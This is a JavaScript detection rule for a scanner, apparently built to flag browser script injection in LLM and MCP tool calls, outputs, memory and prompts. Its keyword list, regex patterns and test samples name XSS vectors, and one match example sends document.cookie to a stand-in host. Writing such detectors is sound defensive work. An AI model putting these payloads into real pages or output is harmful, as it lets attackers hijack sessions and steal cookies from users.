import { defineRule } from '../rule.js';

export default defineRule({
  id: 'payload/script-injection',
  title: 'Carries a script for a browser',
  detector: 'pattern',
  severity: 'medium',
  phase: 'actions_on_objective',
  tags: ['LLM05:2025', 'MCP05:2025'],
  why: 'Where the text is rendered, the script runs as the page: it reads the session, the conversation and whatever the user may do.',
  fix: 'Escape the text, or show it as text; allow markup by a short list.',
  surfaces: ['tool', 'tool-call', 'tool-result', 'output', 'memory', 'prompt', 'server-instructions'],
  outbound: true,
  keywords: [
    '<script',
    'onerror',
    'onload',
    'javascript:',
    '<svg',
    '<iframe',
    'srcdoc',
    'onmouseover',
    'onfocus',
    'document.cookie',
    '<embed',
    'data:text/html',
    'ontoggle',
  ],
  patterns: [
    /<script\b[^>\n]{0,120}>[^<\n]{0,200}(?:alert\(|eval\(|document\.cookie|atob\(|localstorage\.getitem|location\s?=|fetch\([^)\n]{0,60}\+)/,
    /<(?:img|svg|body|iframe|video|audio|input|details|marquee|object|embed|a|div)\b[^>\n]{0,160}\bon(?:error|load|focus|mouseover|toggle|click|begin|start)\s?=\s?["']?[^"'>\s]{0,12}(?:alert|eval|fetch|document|window|atob|location|javascript|new image|import|require|top|self|globalthis)/,
    /(?:href|src|action|formaction|data)\s?=\s?["']?\s?javascript:[^"'>\n]{2,120}/,
    /<iframe\b[^>\n]{0,120}(?:srcdoc\s?=|src\s?=\s?["']?(?:javascript|data):)/,
    /\b(?:new image\(\)\.src|fetch\(|location(?:\.href)?\s?=|navigator\.sendbeacon\()[^\n]{0,100}document\.cookie/,
  ],
  unless: [
    /\b(?:explain|what (?:is|are|does)|semantics|never|do not|don't|prevents?|prevented|preventing|block(?:s|ed)?|reject(?:s|ed)?|detects?|escap(?:e|es|ed|ing)|sanitiz\w{0,4}|protects?|vulnerab\w{0,8}|such as|e\.g|for example|attempts?|disallow\w{0,3}|denied|is (?:the|an|a)|lives at|why|logs?|attack)\b/,
  ],
  match: [
    '<img src=x onerror=alert(1)>',
    '<script>fetch("//a.example?c="+document.cookie)</script>',
    '<a href="javascript:eval(name)">open</a>',
  ],
  clean: [
    ['<img src="d.png" onerror="showFallback()">', 'a fallback image'],
    ['<script src="./app.js"></script>', "a page's own script"],
    ['The javascript: scheme is blocked.', 'a promise'],
  ],
});
